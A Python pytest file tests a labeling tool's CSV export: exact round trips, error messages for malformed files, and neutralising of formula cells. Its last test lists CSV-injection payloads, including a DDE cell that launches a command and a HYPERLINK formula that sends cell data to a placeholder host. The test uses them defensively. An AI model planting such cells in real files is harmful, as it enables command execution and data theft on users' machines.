"""Draws survive a CSV round trip exactly; malformed files are refused naming the line."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from leadline.client.export import CSV_COLUMNS, read_draws_csv, write_draws_csv
from leadline.v1 import leadline_pb2


def _draws() -> list[leadline_pb2.Draw]:
    return [
        leadline_pb2.Draw(
            draw_index=0,
            item_id="a,with comma",
            selection_probability=1 / 3,
            surrogate_version=0,
            expected_loss=0.1 + 0.2,
            status=leadline_pb2.DRAW_STATUS_LABELED,
            class_label=0,
            loss=0.0,
            labeler="vendor-1",
            draw_time_ms=1_700_000_000_123,
            label_time_ms=1_700_000_001_000,
            segment="north",
            remaining_count=1000,
        ),
        leadline_pb2.Draw(
            draw_index=1,
            item_id='b "quoted"',
            selection_probability=2.5e-7,
            surrogate_version=3,
            expected_loss=1e-12,
            status=leadline_pb2.DRAW_STATUS_LABELED,
            value=-3.75,
            loss=14.0625,
            labeler="vendor-2",
            remaining_count=999,
        ),
        leadline_pb2.Draw(
            draw_index=2,
            item_id="c",
            selection_probability=0.001,
            status=leadline_pb2.DRAW_STATUS_SKIPPED,
            skip_reason="blurred,\nunreadable",
            labeler="vendor-1",
            remaining_count=998,
        ),
        leadline_pb2.Draw(
            draw_index=3,
            item_id="d",
            selection_probability=0.002,
            status=leadline_pb2.DRAW_STATUS_ASSIGNED,
            remaining_count=997,
        ),
        # A labeled draw whose loss is exactly 0 keeps its (zero) loss column filled.
        leadline_pb2.Draw(
            draw_index=4,
            item_id="e",
            selection_probability=0.5,
            status=leadline_pb2.DRAW_STATUS_LABELED,
            class_label=2,
            remaining_count=2,
        ),
    ]


def test_round_trip_gives_identical_messages(tmp_path: Path) -> None:
    path = tmp_path / "draws.csv"
    assert write_draws_csv(_draws(), path) == 5
    assert read_draws_csv(path) == _draws()


def test_csv_is_readable_by_the_standard_csv_module() -> None:
    buffer = io.StringIO()
    write_draws_csv(_draws(), buffer)
    rows = list(csv.DictReader(io.StringIO(buffer.getvalue())))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert [row["status"] for row in rows] == [
        "labeled",
        "labeled",
        "skipped",
        "assigned",
        "labeled",
    ]
    assert rows[0]["class_label"] == "0"
    assert rows[0]["value"] == ""
    assert rows[1]["value"] == "-3.75"
    assert rows[1]["class_label"] == ""
    assert rows[3]["loss"] == ""
    assert rows[4]["loss"] == "0.0"
    assert float(rows[1]["selection_probability"]) == 2.5e-7


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "CSV header is None"),
        ("draw_index,item_id\n", "CSV header is ['draw_index', 'item_id']"),
        (",".join(CSV_COLUMNS) + "\n1,a\n", "line 2: 2 columns, expected 15."),
        (
            ",".join(CSV_COLUMNS) + "\nx,a,,labeled,0.5,0,0,1,1,,0,,0,0,\n",
            "line 2: invalid literal for int() with base 10: 'x'",
        ),
        (
            ",".join(CSV_COLUMNS) + "\n0,a,,done,0.5,0,0,1,1,,0,,0,0,\n",
            "line 2: status = 'done' is not a known draw status",
        ),
    ],
)
def test_malformed_csv_is_refused_naming_the_line(text: str, message: str) -> None:
    with pytest.raises(ValueError, match="^" + re.escape(message)):
        read_draws_csv(io.StringIO(text))


# Cells a spreadsheet would run as formulas (examples in the style of OWASP's "CSV
# Injection" page): written with a leading ' so they stay text, read back unchanged.
_FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\tTab first",
    "\rReturn first",
    "'already quoted",
]


def test_formula_cells_are_neutralised_and_read_back_unchanged() -> None:
    draws = [
        leadline_pb2.Draw(
            draw_index=i,
            item_id=text,
            segment=text,
            status=leadline_pb2.DRAW_STATUS_SKIPPED,
            labeler=text,
            skip_reason=text,
            selection_probability=0.5,
        )
        for i, text in enumerate(_FORMULAS)
    ]
    buffer = io.StringIO()
    write_draws_csv(draws, buffer)
    rows = list(csv.DictReader(io.StringIO(buffer.getvalue())))
    for row, text in zip(rows, _FORMULAS, strict=True):
        for column in ("item_id", "segment", "labeler", "skip_reason"):
            assert row[column] == "'" + text
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert read_draws_csv(io.StringIO(buffer.getvalue())) == draws
    # Plain text and numbers are untouched.
    assert rows[0]["selection_probability"] == "0.5"
